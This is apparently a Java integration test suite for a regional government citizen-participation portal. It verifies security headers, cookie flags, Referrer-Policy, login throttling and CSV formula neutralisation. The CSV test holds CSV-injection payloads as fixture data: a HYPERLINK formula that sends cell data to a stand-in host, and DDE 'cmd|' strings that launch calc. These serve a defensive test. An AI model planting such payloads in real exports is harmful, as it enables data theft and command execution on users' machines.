package pe.gob.regioncajamarca.participa.identity;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.springframework.boot.test.web.server.LocalServerPort;

import pe.gob.regioncajamarca.participa.testsupport.Http;
import pe.gob.regioncajamarca.participa.testsupport.ProcessTest;

/**
 * Hardening seen from outside: behind a TLS proxy (X-Forwarded-Proto: https from a trusted proxy on the loopback)
 * the answers carry HSTS and the session cookie is Secure; on plain HTTP neither (a browser would refuse the
 * cookie). Session cookies are HttpOnly and SameSite=Lax, pages carry a CSP without inline script. CSV downloads
 * neutralise cells that start with = + - @.
 */
class HardeningIT extends ProcessTest {

    @LocalServerPort int port;

    private HttpResponse<String> get(String path, Map<String, String> headers) throws Exception {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create("http://localhost:" + port + path)).GET();
        headers.forEach(b::header);
        return HttpClient.newBuilder().followRedirects(HttpClient.Redirect.NEVER).build()
                .send(b.build(), HttpResponse.BodyHandlers.ofString());
    }

    private static String sessionCookie(HttpResponse<String> r) {
        return r.headers().allValues("Set-Cookie").stream().filter(c -> c.startsWith("JSESSIONID=")).findFirst()
                .orElseThrow(() -> new AssertionError("no session cookie: " + r.headers().map()));
    }

    @Test
    void behindATlsProxyAnswersCarryHstsAndTheSessionCookieIsSecure() throws Exception {
        HttpResponse<String> tls = get("/login", Map.of("X-Forwarded-Proto", "https"));
        assertThat(tls.statusCode()).isEqualTo(200);
        assertThat(tls.headers().firstValue("Strict-Transport-Security")).hasValueSatisfying(
                v -> assertThat(v).contains("max-age="));
        assertThat(sessionCookie(tls)).contains("Secure", "HttpOnly", "SameSite=Lax");

        HttpResponse<String> plain = get("/login", Map.of());
        assertThat(plain.headers().firstValue("Strict-Transport-Security")).isEmpty();
        assertThat(sessionCookie(plain)).contains("HttpOnly", "SameSite=Lax").doesNotContain("Secure");
        assertThat(plain.headers().firstValue("Content-Security-Policy")).hasValueSatisfying(
                v -> assertThat(v).contains("default-src 'self'").doesNotContain("unsafe-inline"));
        assertThat(plain.headers().firstValue("X-Frame-Options")).isPresent();
        assertThat(plain.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
    }

    /**
     * Every door sends {@code Referrer-Policy: strict-origin-when-cross-origin}, so that a link to another site
     * never carries a path or query of ours (a password link's token, a complaint's code) in the Referer header.
     */
    @Test
    void everyDoorSendsAReferrerPolicy() {
        String planner = staffUser(StaffGroups.PLANNING);
        Http http = new Http(port);
        List<HttpResponse<String>> answers = List.of(
                http.get("/"), http.get("/login"), http.get("/proyectos"), http.get("/acceso/restablecer?token=x"),
                http.get("/css/portal.css"), http.get("/mi-cuenta"), http.get("/no-existe"),
                http.get("/personal/login"), http.get("/personal"),
                http.get("/engine-rest/version", planner, "secreto-" + planner), http.get("/engine-rest/task"),
                http.get("/camunda/app/tasklist/default/"),
                http.get("/camunda/api/engine/engine/default/task/count"));
        for (HttpResponse<String> r : answers) {
            assertThat(r.headers().firstValue("Referrer-Policy")).as(r.request().uri() + " (" + r.statusCode() + ")")
                    .contains("strict-origin-when-cross-origin");
        }
    }

    @org.springframework.beans.factory.annotation.Autowired CitizenAccounts accounts;

    /** One login attempt from {@code address} (as a trusted proxy on the loopback forwards it); the redirect. */
    private String login(String address, String dni, String password) throws Exception {
        HttpClient client = HttpClient.newBuilder().cookieHandler(new java.net.CookieManager())
                .followRedirects(HttpClient.Redirect.NEVER).build();
        String page = client.send(HttpRequest.newBuilder(URI.create("http://localhost:" + port + "/login"))
                .header("X-Forwarded-For", address).GET().build(), HttpResponse.BodyHandlers.ofString()).body();
        java.util.regex.Matcher m = java.util.regex.Pattern.compile("name=\"_csrf\" value=\"([^\"]+)\"").matcher(page);
        assertThat(m.find()).isTrue();
        String body = "username=" + dni + "&password=" + java.net.URLEncoder.encode(password, "UTF-8") + "&_csrf="
                + m.group(1);
        HttpResponse<String> r = client.send(HttpRequest.newBuilder(URI.create("http://localhost:" + port + "/login"))
                .header("X-Forwarded-For", address).header("Content-Type", "application/x-www-form-urlencoded")
                .POST(HttpRequest.BodyPublishers.ofString(body)).build(), HttpResponse.BodyHandlers.ofString());
        assertThat(r.statusCode()).isEqualTo(302);
        return r.headers().firstValue("Location").orElseThrow();
    }

    /** Fresh accounts and documentation addresses (198.51.100.0/24), so no other test's logins are touched. */
    @Test
    void loginsAreThrottledPerAccountAndPerAddress() throws Exception {
        String dni = String.format("5%07d", unique() % 10_000_000);
        accounts.create("DNI", dni, "clave-correcta", "luz" + unique() + "@example.pe", "Luz", "Rojas", null);
        String a = "198.51.100." + (unique() % 200 + 1);
        for (int i = 0; i < 5; i++) {
            assertThat(login(a, dni, "mala-" + i)).endsWith("/login?error");
        }
        // the sixth attempt, even with the right password, is turned away: per account, from any address
        assertThat(login(a, dni, "clave-correcta")).endsWith("/login?demasiados");
        assertThat(login("203.0.113.7", dni, "clave-correcta")).endsWith("/login?demasiados");
        assertThat(new Http(port).get("/login?demasiados").body()).contains("Demasiados intentos fallidos de ingreso");
        // another account from the same address is not affected (5 failures < 30 per address)
        String other = String.format("5%07d", unique() % 10_000_000);
        accounts.create("DNI", other, "clave-correcta", "luz" + unique() + "@example.pe", "Luz", "Rojas", null);
        assertThat(login(a, other, "clave-correcta")).doesNotContain("/login?");

        // per address: 30 failures over 30 different document numbers, then even a right password is turned away
        String b = "198.51.100." + (unique() % 50 + 201);
        for (int i = 0; i < 30; i++) {
            assertThat(login(b, String.format("6%07d", unique() % 10_000_000), "adivina")).endsWith("/login?error");
        }
        String third = String.format("5%07d", unique() % 10_000_000);
        accounts.create("DNI", third, "clave-correcta", "luz" + unique() + "@example.pe", "Luz", "Rojas", null);
        assertThat(login(b, third, "clave-correcta")).endsWith("/login?demasiados");
        assertThat(login("203.0.113.8", third, "clave-correcta")).doesNotContain("/login?");
    }

    @Test
    void csvDownloadsNeutraliseFormulaCells() {
        int year = freeYear();
        openCycle(year, 3);
        String[] names = {"=HYPERLINK(\"http://malo.example/?x=\"&A1,\"clic\")", "+1+cmd|' /C calc'!A0", "-2+3",
                "@SUM(1+1)*cmd|' /C calc'!A0"};
        for (int i = 0; i < names.length; i++) {
            jdbc.sql("INSERT INTO project (cycle_year, cui, name, scope, cost, sector, executing_unit) "
                            + "VALUES (?, ?, ?, 'CHOTA', 100000, 'Salud', ?)")
                    .params(year, String.valueOf(year * 10 + i), names[i], TEST_UNIT).update();
        }
        var csv = new Http(port).get("/api/open-data/cycles/" + year + "/projects.csv");
        assertThat(csv.statusCode()).isEqualTo(200);
        List<String> rows = csv.body().lines().skip(1).toList();
        assertThat(rows).hasSize(4);
        for (String row : rows) {
            String name = row.split(",", 3)[1];
            // the name cell, unquoted, starts with an apostrophe (quoted cells start with "')
            assertThat(name).matches("\"?'.*");
        }
        assertThat(csv.body()).contains("'=HYPERLINK", "'+1+cmd", "'-2+3", "'@SUM");
    }
}
